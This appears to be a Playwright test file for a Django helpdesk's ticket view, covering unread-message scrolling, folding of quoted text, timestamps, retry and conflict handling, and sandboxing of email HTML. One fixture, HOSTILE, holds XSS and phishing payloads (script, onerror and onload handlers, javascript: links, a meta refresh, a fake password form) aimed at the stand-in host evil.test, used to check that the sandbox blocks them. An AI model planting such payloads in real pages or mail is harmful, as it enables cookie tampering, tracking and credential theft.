"""Reading a ticket: where it opens, what is folded, and what a hostile mail cannot do."""

from __future__ import annotations

import re
from datetime import timedelta

from django.utils.timezone import now
from playwright.sync_api import Page, expect

from tests.agents import Browsers, entry, hears_the_bell, work
from tests.foundation.test_pictures import image
from tests.journeys.doors import Door
from tests.make import make_agent, make_message, make_ticket
from tests.web_server import Server, say
from tickets import reading
from tickets.models import Message, TicketEvent
from tickets.services import replies, workflow

LONG = "\n\n".join(f"Paragraph {number} of a long story." for number in range(30))


def path(ticket):
    return f"/t/{ticket.number}/"


def a_long_ticket(messages: int = 5):
    ticket = make_ticket(text=LONG)
    for number in range(1, messages):
        make_message(ticket, text=f"Message {number}. {LONG}")
    return ticket


def how_far_down(page: Page) -> float:
    return page.locator("#conversation").evaluate(
        "pane => pane.scrollHeight - pane.scrollTop - pane.clientHeight"
    )


def test_ux43_it_opens_at_the_first_unread_message(browsers: Browsers):
    agent, ticket = make_agent(), a_long_ticket()
    reading.mark_seen(ticket, agent, event=ticket.events.last().pk)
    make_message(ticket, text=f"The first new one. {LONG}")
    make_message(ticket, text=f"The second new one. {LONG}")

    page = browsers.open(agent, path(ticket))

    expect(page.get_by_text("New since")).to_be_in_viewport()
    expect(entry(page, "The first new one.").locator(".message-author")).to_be_in_viewport()
    expect(entry(page, "The second new one.").locator(".message-author")).not_to_be_in_viewport()


def test_ux43_fully_read_it_opens_at_the_newest(browsers: Browsers):
    agent, ticket = make_agent(), a_long_ticket()
    reading.mark_seen(ticket, agent, event=ticket.events.last().pk)

    page = browsers.open(agent, path(ticket))

    expect(page.get_by_text("New since")).to_have_count(0)
    assert how_far_down(page) < 60


def test_ux44_who_reads_further_up_is_not_moved(browsers: Browsers):
    ticket = a_long_ticket()
    page = hears_the_bell(browsers.open(make_agent(), path(ticket)))
    conversation = page.locator("#conversation")
    conversation.evaluate("pane => pane.scrollTo({ top: 0 })")
    page.wait_for_function("() => document.getElementById('conversation').scrollTop === 0")

    make_message(ticket, text="Something new at the end")
    work()

    pill = page.locator("[data-timeline-pill]")
    expect(pill).to_contain_text("1 new message")
    assert conversation.evaluate("pane => pane.scrollTop") == 0
    pill.get_by_role("button").click()
    expect(entry(page, "Something new at the end")).to_be_in_viewport()


def test_ux45_quoted_text_is_folded(browsers: Browsers):
    ticket = make_ticket()
    make_message(ticket, text="Yes it did.", quoted_text="> Did it work for you?")
    page = browsers.open(make_agent(), path(ticket))

    quoted = page.get_by_text("Did it work for you?")
    expect(quoted).to_be_hidden()
    page.get_by_text("Show quoted text").click()
    expect(quoted).to_be_visible()


def test_ux45_a_long_conversation_unfolds_and_folds(browsers: Browsers):
    ticket = make_ticket(text="The very beginning")
    agent = make_agent()
    for number in range(199):
        message = Message.objects.create(
            ticket=ticket,
            visibility="public",
            direction="in",
            channel="email",
            author_customer=ticket.requester,
            text=f"Message {number}",
            delivery="received",
        )
        TicketEvent.objects.create(ticket=ticket, kind="message.received", message=message)
    page = browsers.open(agent, path(ticket))
    folded = page.locator(".is-folded")
    expect(folded).to_have_count(194)

    page.get_by_role("link", name="Show the whole conversation").click()
    expect(folded).to_have_count(0)
    page.get_by_role("link", name="Fold what was read").click()
    expect(folded).to_have_count(194)


def test_what_was_unfolded_stays_so_when_something_happens(browsers: Browsers):
    ticket = make_ticket(text="The very beginning")
    for number in range(8):
        make_message(ticket, text=f"Message {number}", quoted_text="> What was asked before")
    page = hears_the_bell(browsers.open(make_agent(), path(ticket)))
    folded = page.locator(".is-folded")
    expect(folded).to_have_count(3)

    folded.filter(has_text="The very beginning").get_by_role("link").click()
    expect(folded).to_have_count(2)
    entry(page, "Message 7").get_by_text("Show quoted text").click()
    make_message(ticket, text="Something new")
    workflow.change_priority(ticket=ticket, priority=4, actor=make_agent())
    work()

    expect(entry(page, "Something new")).to_be_visible()
    expect(folded).to_have_count(2)
    expect(entry(page, "The very beginning").locator(".message-box")).to_be_visible()
    expect(entry(page, "Message 7").get_by_text("What was asked before")).to_be_visible()


def test_ux46_exact_times_with_the_zone_in_the_tooltip(browsers: Browsers):
    ticket = make_ticket()
    Message.objects.update(created_at=now() - timedelta(days=400))
    page = browsers.open(make_agent(time_zone="Europe/Berlin"), path(ticket))

    time = page.locator(".timeline-message time").first
    expect(time).to_have_text(re.compile(r"^\d{1,2} [A-Z][a-z]{2} \d{4} \d\d:\d\d$"))
    expect(time).to_have_attribute("title", re.compile(r" \d\d:\d\d:\d\d (CET|CEST)$"))


def test_ux49_a_failed_change_goes_back_and_offers_to_try_again(browsers: Browsers, watch):
    watch.allow(r"request: POST .*/priority/ net::ERR_FAILED", r"console: htmx:")
    ticket = make_ticket()
    page = browsers.open(make_agent(), path(ticket))
    page.route("**/priority/", lambda route: route.abort())

    page.locator("#property-priority").select_option("4")

    toast = page.locator("#toasts .toast")
    expect(toast).to_contain_text("Nothing was changed")
    expect(page.locator("#property-priority")).to_have_value("2")
    page.unroute("**/priority/")
    toast.get_by_role("button", name="Try again").click()
    expect(page.locator("#property-priority")).to_have_value("4")
    ticket.refresh_from_db()
    assert ticket.priority == 4


def test_what_a_colleague_changed_meanwhile_is_shown(browsers: Browsers, watch):
    watch.allow(r"409 POST .*/status/")
    ticket = make_ticket(status="open")
    page = browsers.open(make_agent(), "/healthz")
    Door(page, re.compile(r"/details/$"))  # stays closed: the page has not heard of it
    page.goto(path(ticket))
    workflow.change_status(ticket=ticket, status="pending", actor=make_agent())

    page.locator("#property-status").select_option("solved")

    expect(page.locator("#refused-status")).to_contain_text("Somebody else changed this")
    expect(page.locator("#property-status")).to_have_value("pending")


HOSTILE = """
<style>* { display: none !important } body { background: url(https://evil.test/css) }</style>
<script>parent.document.title = "owned"; document.cookie = "owned=1"</script>
<svg onload="parent.document.title = 'owned'"></svg>
<img src="x" onerror="parent.document.title = 'owned'">
<div style="position: fixed; top: -500px; left: 0; width: 200vw; height: 200vh; z-index: 9999">overlay</div>
<meta http-equiv="refresh" content="0; url=https://evil.test/">
<table background="https://evil.test/background.png"><tr><td>
<span style="background-color: rgb(255, 255, 0)">highlighted words</span>
<img src="https://evil.test/picture.png" width="120" height="40" alt="logo">
<a href="javascript:parent.document.title='owned'">click me</a>
<form action="https://evil.test/"><input name="password"><button>Log in</button></form>
</td></tr></table>
"""


def test_ux55_a_hostile_mail_does_nothing(browsers: Browsers, watch):
    agent = make_agent(theme="dark")
    ticket = make_ticket()
    make_message(ticket, text="highlighted words", html=HOSTILE)
    asked = []
    page = browsers.open(agent, "/inbox/all/")
    page.context.on("request", lambda request: asked.append(request.url))
    page.goto(path(ticket))

    mail = page.frame_locator("iframe.mail-frame")
    words = mail.get_by_text("highlighted words")
    expect(words).to_be_visible()
    # Yellow on white paper, though the desk is dark.
    ground = "element => getComputedStyle(element).backgroundColor"
    assert words.evaluate(ground) == "rgb(255, 255, 0)"
    assert mail.locator("html").evaluate(ground) == "rgb(255, 255, 255)"
    assert (
        mail.locator("script, style:not(head style), svg, form, input, meta[http-equiv], [onerror]").count()
        == 0
    )
    expect(page).to_have_title(re.compile(f"#{ticket.number} "))
    assert [url for url in asked if "evil.test" in url] == []
    # Nothing of it reaches out of its box.
    box, frame = (
        page.locator("iframe.mail-frame").bounding_box(),
        page.locator("article:has(iframe)").bounding_box(),
    )
    assert box["y"] >= frame["y"]
    assert box["x"] + box["width"] <= frame["x"] + frame["width"] + 1


def test_ux55_remote_pictures_come_through_the_desk_when_asked_for(browsers: Browsers, web_server: Server):
    web_server.answer = lambda request: say(request, 200, image())
    elsewhere = web_server.url.replace("127.0.0.1", "localhost")
    ticket = make_ticket()
    make_message(
        ticket, text="words", html=f'<img src="{elsewhere}/logo.png" width="60" height="60" alt="logo">'
    )
    page = browsers.open(make_agent(), path(ticket))
    asked: list[str] = []
    page.context.on("request", lambda request: asked.append(request.url))
    assert web_server.asked == []

    page.frame_locator("iframe.mail-frame").get_by_role("link", name="Show pictures").click()

    logo = page.frame_locator("iframe.mail-frame").get_by_alt_text("logo")
    expect(logo).to_have_js_property("naturalWidth", 2)
    assert [path for _method, path, *_rest in web_server.asked] == ["/logo.png"]
    assert [url for url in asked if url.startswith(elsewhere)] == []


def test_the_frame_is_as_high_as_the_mail(browsers: Browsers):
    ticket = make_ticket()
    make_message(ticket, text="x", html='<div style="height: 700px; color: #333">tall</div>')
    page = browsers.open(make_agent(), path(ticket))

    expect(page.locator("iframe.mail-frame")).to_be_visible()
    page.wait_for_function("() => document.querySelector('iframe.mail-frame').clientHeight > 690")


def test_a_failed_answer_can_be_sent_again_from_where_it_stands(browsers: Browsers):
    agent, ticket = make_agent(), make_ticket(status="open")
    message = replies.post_reply(ticket=ticket, author=agent, html="<p>Here you are.</p>")
    Message.objects.filter(pk=message.pk).update(delivery="failed", delivery_note="550 no such user")
    page = browsers.open(agent, path(ticket))

    expect(entry(page, "Here you are.")).to_contain_text("550 no such user")
    entry(page, "Here you are.").get_by_role("button", name="Send again").click()

    expect(entry(page, "Here you are.")).to_contain_text("Waits to be sent")
